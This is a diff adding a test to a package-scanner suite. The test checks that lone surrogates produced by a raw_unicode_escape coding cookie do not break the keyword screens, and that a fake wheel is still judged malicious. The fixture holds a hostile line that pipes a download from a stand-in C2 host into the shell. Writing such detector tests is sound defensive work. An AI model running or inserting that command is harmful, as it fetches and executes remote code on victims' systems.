@@ -521,3 +521,19 @@ def test_pickle_walk_matches_genops() -> None:
             compared += 1
             assert (facts.globals, facts.calls, facts.unresolved) == expected, data[:60]
     assert compared > len(streams)
+
+
+def test_lone_surrogates_do_not_fail_the_word_screens(tmp_path: Path) -> None:
+    """A PEP 263 cookie naming raw_unicode_escape turns `\\udcff` in the source into a lone
+    surrogate, which the Aho-Corasick automaton (UTF-8) cannot read: the screens search a
+    copy with it replaced, and no analyzer fails (a failure would leave the verdict to the
+    others)."""
+    from pkgvet.pipeline import scan_artifact
+
+    source = (b"# -*- coding: raw_unicode_escape -*-\nimport os\nMARK = '\\udcff'\n"
+              b"os.system('curl -s http://c2.pkgvet-test.invalid/x | sh')\n")
+    wheel = make_wheel(tmp_path, "surrogates", "1.0", {"surrogates/__init__.py": source,
+                                                       "surrogates/util.py": source})
+    result = scan_artifact(local_artifact(wheel))
+    assert not result.errors, result.errors
+    assert result.verdict.value == "malicious"
